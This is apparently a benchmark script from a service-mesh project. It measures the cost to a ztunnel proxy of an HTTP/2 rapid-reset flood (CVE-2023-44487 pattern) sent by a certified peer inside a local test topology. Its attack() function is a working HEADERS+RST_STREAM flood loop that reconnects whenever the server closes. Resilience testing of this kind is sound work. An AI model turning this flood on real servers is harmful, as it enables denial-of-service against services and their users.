#!/usr/bin/python3
"""zmesh rapid-reset benchmark (issue 6 item 4): what a peer with a valid mesh certificate costs ztunnel B by
sending HEADERS + RST_STREAM pairs (CVE-2023-44487's pattern) on 15008.

On bench.py's topology and ztunnel pair: an attacker in pod A's namespace (Python h2, SO_MARK so it is not
captured) sends --pairs (120 000) CONNECT requests to an app in pod B, each followed at once by its
RST_STREAM, in batches of 200 per TLS write, reconnecting whenever the server ends the connection. Reports
the time taken, the HBONE connections used and GOAWAYs received, ztunnel B's CPU seconds (utime+stime) and
log growth, TIME_WAIT sockets in pod B afterwards, and the connections the app accepted. Writes
build/bench/rapid_reset.json. Compare builds with --bin-dir.

Run as root: /usr/bin/python3 bench/rapid_reset.py [--bin-dir DIR] [--pairs N]
"""
import argparse
import json
import os
import ssl
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import bench  # noqa: E402  (Procs, the topology adapter, nsexec/run)
import conns  # noqa: E402  (count_time_wait)
from bench import log  # noqa: E402
from pinned import PinningApp  # noqa: E402  (a listener in pod B; with reply None it counts accepts)

ROOT = bench.ROOT
APP_PORT = 7300
BATCH = 200


def attack(t, pairs):
    import h2.errors
    import h2.events
    from helpers import connect  # tests/e2e/helpers.py
    from hbone_peer import HboneClient
    cert, key = t.t.mint(t.pod_a.spiffe, "rapid-reset")
    hdrs = [(b":method", b"CONNECT"), (b":authority", f"{t.ip_b}:{APP_PORT}".encode())]
    sent = conns_used = goaways = 0
    while sent < pairs:
        c = HboneClient(connect(t.ns_a, t.ip_b, 15008, mark=0x539), cert, key, t.root_pem)
        conns_used += 1
        try:
            while sent < pairs:
                for _ in range(BATCH):
                    sid = c.conn.get_next_available_stream_id()
                    c.conn.send_headers(sid, hdrs)
                    c.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                    sent += 1
                c.tls.sendall(c.conn.data_to_send())
                c.tls.setblocking(False)
                try:
                    d = c.tls.recv(1 << 16)
                except (BlockingIOError, ssl.SSLWantReadError):
                    continue
                finally:
                    c.tls.setblocking(True)
                if not d:
                    break
                if any(isinstance(e, h2.events.ConnectionTerminated) for e in c.conn.receive_data(d)):
                    goaways += 1
                    break
        except (OSError, Exception) as e:  # the server may close while we write
            log(f"connection {conns_used}: {type(e).__name__}: {e}")
        try:
            c.tls.close()
        except OSError:
            pass
    return sent, conns_used, goaways


def cpu_of(pid):
    with open(f"/proc/{pid}/stat") as f:
        st = f.read().rsplit(")", 1)[1].split()
    return (int(st[11]) + int(st[12])) / bench.CLK_TCK


def main(argv):
    ap = argparse.ArgumentParser(description="HEADERS+RST_STREAM floods against ztunnel's 15008")
    ap.add_argument("--pairs", type=int, default=120000)
    ap.add_argument("--ztunnel-workers", type=int, default=0)
    ap.add_argument("--bin-dir", default=os.environ.get("ZMESH_BIN", os.path.join(ROOT, "build", "bin")))
    ap.add_argument("--out", default=os.path.join(ROOT, "build", "bench", "rapid_reset.json"))
    args = ap.parse_args(argv)
    args.rtt_bin = os.path.join(args.bin_dir, "zm-rtt")
    if os.geteuid() != 0:
        print("rapid_reset: needs root (network namespaces)", file=sys.stderr)
        return 2
    procs = bench.Procs()
    try:
        with bench.Topology(args, procs) as t:
            zts = t.start_zmesh(procs)
            app = PinningApp(t.ns_b, APP_PORT, None)
            try:
                zb = zts[1]
                log0, cpu0, t0 = os.path.getsize(zb.log_path), cpu_of(zb.pid), time.monotonic()
                sent, used, goaways = attack(t, args.pairs)
                elapsed = time.monotonic() - t0
                time.sleep(1.0)  # the server's last closes and log lines
                res = {"pairs": sent, "seconds": round(elapsed, 2), "hbone_conns": used, "goaways": goaways,
                       "server_cpu_s": round(cpu_of(zb.pid) - cpu0, 2),
                       "server_log_bytes": os.path.getsize(zb.log_path) - log0,
                       "time_wait_at_b": conns.count_time_wait(t.ns_b), "app_accepts": app.accepted}
            finally:
                app.close()
                t.stop_zmesh(procs)
    finally:
        procs.stop_all()
    print(" ".join(f"{k}={v}" for k, v in res.items()))
    os.makedirs(os.path.dirname(args.out), exist_ok=True)
    with open(args.out, "w") as f:
        json.dump({"bin_dir": args.bin_dir, "result": res}, f, indent=2)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
